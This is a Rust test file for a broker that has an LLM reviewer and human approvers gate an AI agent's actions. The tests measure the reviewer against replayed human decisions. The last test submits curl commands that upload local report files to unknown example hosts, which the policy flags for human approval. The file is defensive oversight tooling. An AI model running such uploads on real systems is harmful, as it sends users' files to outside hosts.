//! A reviewer that learns from people, measured on a replay of recorded decisions
//! (`datasets/replay/decisions.jsonl`, in the order people made them), against a real
//! chat-completions server on loopback.
//!
//! The server is scripted, not a language model: it reads the fenced data of each prompt and
//! answers by a fixed procedure. Without earlier decisions: deny a critical finding, approve
//! tier 0–1 with nothing above medium, escalate the rest. With earlier decisions: when every one
//! at similarity 0.6 or more agrees, follow them; otherwise as without. What this shows: that
//! the broker's history reaches the prompt, inside the fence, within the budget, and that the
//! selection picks decisions an agreeing reviewer can use (and where it misleads one). What it
//! cannot show: how a real model weighs such examples, or whether it is swayed by a hostile one.
//! `cargo test -p airlock-confirm --test replay -- --nocapture` prints the figures
//! `docs/evaluation.md` quotes.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::sync::{Arc, Mutex};
use std::time::Duration;

use airlock_confirm::llm::Reviewer;
use airlock_confirm::precedent::{self, MAX_PRECEDENT_CHARS, MAX_PRECEDENTS, PastDecision};
use airlock_confirm::{BrokerConfig, LlmResult};
use airlock_core::{Action, Decision, Finding, ReasonCode, Severity, Tier};
use axum::extract::State;
use axum::routing::post;
use axum::{Json, Router};
use serde_json::{Value, json};

use common::*;

const SET: &str = include_str!("../../../datasets/replay/decisions.jsonl");

struct Recorded {
    seq: u64,
    family: String,
    action: Action,
    tier: Tier,
    findings: Vec<Finding>,
    approved: bool,
    reason: String,
}

fn recorded() -> Vec<Recorded> {
    SET.lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| {
            let v: Value = serde_json::from_str(l).unwrap();
            let findings = v["findings"]
                .as_array()
                .unwrap()
                .iter()
                .map(|f| {
                    Finding::new(
                        f["rule"].as_str().unwrap(),
                        ReasonCode::parse(f["code"].as_str().unwrap()).unwrap(),
                        serde_json::from_value::<Decision>(f["decision"].clone()).unwrap(),
                        Tier::try_from(v["tier"].as_u64().unwrap() as u8).unwrap(),
                        serde_json::from_value::<Severity>(f["severity"].clone()).unwrap(),
                        f["message"].as_str().unwrap(),
                    )
                })
                .collect();
            Recorded {
                seq: v["seq"].as_u64().unwrap(),
                family: v["family"].as_str().unwrap().to_string(),
                action: serde_json::from_value(v["action"].clone()).unwrap(),
                tier: Tier::try_from(v["tier"].as_u64().unwrap() as u8).unwrap(),
                findings,
                approved: v["person"] == "approved",
                reason: v["reason"].as_str().unwrap_or_default().to_string(),
            }
        })
        .collect()
}

/// The fenced JSON of a chat-completions request's user message.
fn fenced(body: &Value) -> Value {
    let user = body["messages"][1]["content"].as_str().unwrap();
    let inside = user
        .split("<untrusted-data>\n")
        .nth(1)
        .and_then(|r| r.split("\n</untrusted-data>").next())
        .unwrap();
    serde_json::from_str(inside).unwrap()
}

/// The scripted reviewer's procedure (see the module comment).
fn scripted(data: &Value) -> &'static str {
    let earlier: Vec<&Value> = data["earlier_decisions"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter(|p| p["similarity"].as_f64().unwrap_or(0.0) >= 0.6)
                .collect()
        })
        .unwrap_or_default();
    if !earlier.is_empty() {
        if earlier.iter().all(|p| p["outcome"] == "approved") {
            return "approve";
        }
        if earlier.iter().all(|p| p["outcome"] == "denied") {
            return "deny";
        }
    }
    let sev: Vec<&str> = data["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["severity"].as_str())
        .collect();
    if sev.contains(&"critical") {
        "deny"
    } else if data["tier"].as_u64().unwrap() <= 1 && !sev.contains(&"high") {
        "approve"
    } else {
        "escalate"
    }
}

#[derive(Clone, Default)]
struct Seen(Arc<Mutex<Vec<Value>>>);

async fn completions(State(seen): State<Seen>, Json(body): Json<Value>) -> Json<Value> {
    let decision = scripted(&fenced(&body));
    seen.0.lock().unwrap().push(body);
    Json(json!({
        "id": "chatcmpl-replay",
        "object": "chat.completion",
        "created": 1_800_000_000,
        "model": "scripted-replay",
        "choices": [{"index": 0, "finish_reason": "stop", "message": {"role": "assistant",
            "content": json!({"decision": decision, "risk": 0.5, "rationale": "scripted"}).to_string()}}],
    }))
}

async fn server() -> (Seen, String) {
    let seen = Seen::default();
    let app = Router::new()
        .route("/v1/chat/completions", post(completions))
        .with_state(seen.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await });
    (seen, format!("http://{addr}/v1"))
}

#[derive(Debug, Default, PartialEq)]
struct Tally {
    agree: usize,
    wrong_approve: usize,
    wrong_deny: usize,
    escalated: usize,
    /// Under the built-in tiers (1: the reviewer alone; 2–3: reviewer and person, the
    /// reviewer's deny denies at once; 4: a person only): how often a person is still asked,
    /// and how often the reviewer alone decided against what the person decided.
    person_asked: usize,
    alone_against_person: usize,
}

fn routed(t: &mut Tally, tier: Tier, result: LlmResult, approved: bool) {
    let alone = match tier {
        Tier::Safe | Tier::Low => matches!(result, LlmResult::Approve | LlmResult::Deny),
        Tier::Medium | Tier::High => result == LlmResult::Deny,
        Tier::Critical => false,
    };
    if !alone {
        t.person_asked += 1;
    } else if (result == LlmResult::Approve) != approved {
        t.alone_against_person += 1;
    }
}

fn tally(t: &mut Tally, result: LlmResult, approved: bool) {
    match (result, approved) {
        (LlmResult::Approve, true) | (LlmResult::Deny, false) => t.agree += 1,
        (LlmResult::Approve, false) => t.wrong_approve += 1,
        (LlmResult::Deny, true) => t.wrong_deny += 1,
        (LlmResult::Escalate, _) => t.escalated += 1,
        (other, _) => panic!("the reviewer failed: {other:?}"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn replayed_decisions_before_and_after_the_reviewer_sees_earlier_ones() {
    let set = recorded();
    assert!(
        set.len() >= 50,
        "the replay set has {} decisions",
        set.len()
    );
    let (seen, url) = server().await;
    let reviewer = Reviewer::new(llm_config(&url, Duration::from_secs(5))).unwrap();
    let (mut before, mut after) = (Tally::default(), Tally::default());
    let mut with_examples = 0;
    let mut history: Vec<PastDecision> = Vec::new();
    for r in &set {
        let alone = reviewer.review(&r.action, r.tier, &r.findings).await;
        tally(&mut before, alone.result, r.approved);
        routed(&mut before, r.tier, alone.result, r.approved);
        let earlier = precedent::select(&r.action, &history);
        assert!(earlier.len() <= MAX_PRECEDENTS);
        let chars: usize = earlier
            .iter()
            .map(|p| p.shape.len() + p.reason.len() + 40)
            .sum();
        assert!(chars <= MAX_PRECEDENT_CHARS);
        if !earlier.is_empty() {
            with_examples += 1;
        }
        let learned = reviewer
            .review_with(&r.action, r.tier, &r.findings, &earlier)
            .await;
        tally(&mut after, learned.result, r.approved);
        routed(&mut after, r.tier, learned.result, r.approved);
        if matches!(
            (learned.result, r.approved),
            (LlmResult::Approve, false) | (LlmResult::Deny, true)
        ) {
            println!(
                "  after, against the person: #{} {} ({:?}; people {}; {} earlier decisions shown)",
                r.seq,
                r.family,
                learned.result,
                if r.approved { "approved" } else { "denied" },
                earlier.len()
            );
        }
        // what the person decided now becomes history, newest first
        history.insert(
            0,
            PastDecision {
                action: r.action.clone(),
                approved: r.approved,
                reason: r.reason.clone(),
            },
        );
    }
    let n = set.len();
    let pct = |x: usize| 100.0 * x as f64 / n as f64;
    println!(
        "replay of {n} decisions by people; {with_examples} prompts carried earlier decisions"
    );
    for (name, t) in [
        ("before (action alone)", &before),
        ("after (with earlier decisions)", &after),
    ] {
        println!(
            "{name}: agrees {} ({:.1}%), approves what people denied {}, denies what people approved {}, escalates {} ({:.1}%); prompts it could save where it may decide alone {:.1}%",
            t.agree,
            pct(t.agree),
            t.wrong_approve,
            t.wrong_deny,
            t.escalated,
            pct(t.escalated),
            pct(t.agree)
        );
        println!(
            "  under the built-in tiers: a person asked {} of {n} ({:.1}%), the reviewer alone against the person {}",
            t.person_asked,
            pct(t.person_asked),
            t.alone_against_person
        );
    }
    // every request of the second pass carried its examples inside the fence
    let bodies = seen.0.lock().unwrap();
    assert_eq!(bodies.len(), 2 * n);
    let carried = bodies
        .iter()
        .filter(|b| fenced(b).get("earlier_decisions").is_some())
        .count();
    assert_eq!(carried, with_examples);
    assert!(after.agree > before.agree, "{before:?} -> {after:?}");
    assert!(
        after.escalated < before.escalated,
        "{before:?} -> {after:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_persons_decision_reaches_the_next_similar_review() {
    let (llm_state, url) = llm_server(verdict("escalate", 0.5)).await;
    let config = BrokerConfig {
        llm: Some(llm_config(&url, Duration::from_secs(5))),
        ..BrokerConfig::default()
    };
    let (b, _d) = sqlite_broker(config).await;
    let first = b
        .submit(sub("claude", "s1", "tier2 publish the package"))
        .await
        .unwrap();
    let id = first.approval.unwrap();
    // the reviewer escalates; then a person denies with a reason
    for _ in 0..100 {
        if b.approval(&id).await.unwrap().llm.is_some() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    b.answer(&id, deny("alice", "only CI publishes packages"))
        .await
        .unwrap();
    let second = b
        .submit(sub("claude", "s2", "tier2 publish the package"))
        .await
        .unwrap();
    let id2 = second.approval.unwrap();
    for _ in 0..100 {
        if b.approval(&id2).await.unwrap().llm.is_some() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let seen = llm_state.seen.lock().unwrap().clone();
    assert_eq!(seen.len(), 2, "one review each");
    assert!(fenced(&seen[0]).get("earlier_decisions").is_none());
    let data = fenced(&seen[1]);
    let earlier = data["earlier_decisions"].as_array().expect("examples");
    assert_eq!(earlier[0]["outcome"], "denied");
    assert_eq!(earlier[0]["reason"], "only CI publishes packages");
    // an unrelated action gets no examples
    let third = b
        .submit(sub("claude", "s3", "tier2 resize the images"))
        .await
        .unwrap();
    let id3 = third.approval.unwrap();
    for _ in 0..100 {
        if b.approval(&id3).await.unwrap().llm.is_some() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let seen = llm_state.seen.lock().unwrap().clone();
    assert!(fenced(&seen[2]).get("earlier_decisions").is_none());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_person_approving_an_upload_to_an_unknown_host_makes_it_known() {
    use airlock_core::ReasonCode;
    let d = tempfile::tempdir().unwrap();
    let b = broker_at(
        d.path(),
        None,
        policy("[hosts]\nknown = [\"api.github.com\"]\n"),
        BrokerConfig::default(),
    )
    .await;
    let up = "curl -d @report.json https://collector.example.net/upload";
    let first = b.submit(sub("claude", "s1", up)).await.unwrap();
    assert_eq!(first.decision, Decision::Ask, "{first:?}");
    assert!(
        first
            .reasons
            .iter()
            .any(|f| f.code == ReasonCode::UnknownHost),
        "{:?}",
        first.reasons
    );
    // another unknown host, asked and denied: stays unknown
    let other = b
        .submit(sub(
            "claude",
            "s1",
            "curl -d @r.json https://drop.example.org/x",
        ))
        .await
        .unwrap();
    b.answer(&other.approval.unwrap(), deny("alice", "not ours"))
        .await
        .unwrap();
    b.answer(&first.approval.unwrap(), approve("alice"))
        .await
        .unwrap();
    let again = b.submit(sub("claude", "s2", up)).await.unwrap();
    assert!(
        !again
            .reasons
            .iter()
            .any(|f| f.code == ReasonCode::UnknownHost),
        "{:?}",
        again.reasons
    );
    let denied = b
        .submit(sub(
            "claude",
            "s2",
            "curl -d @r.json https://drop.example.org/x",
        ))
        .await
        .unwrap();
    assert!(
        denied
            .reasons
            .iter()
            .any(|f| f.code == ReasonCode::UnknownHost)
    );
}
